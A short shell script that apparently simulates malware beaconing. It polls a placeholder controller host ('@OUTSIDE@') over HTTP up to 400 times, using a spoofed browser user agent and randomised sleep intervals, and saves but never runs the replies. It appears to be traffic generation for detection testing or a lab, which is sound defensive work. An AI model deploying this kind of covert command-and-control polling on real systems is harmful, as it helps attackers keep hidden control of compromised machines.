#!/bin/sh
# Asks its controller for orders every eleven seconds or so, and gets none.
id=$(hostname | md5sum | cut -c 1-8)
calls=0
while [ $calls -lt 400 ]; do
  wget -q -O orders -U 'Mozilla/5.0 (X11; Linux x86_64)' "http://@OUTSIDE@:8000/cgi-bin/status?id=$id"
  calls=$((calls + 1))
  usleep $((8500000 + RANDOM % 25 * 200000))
done
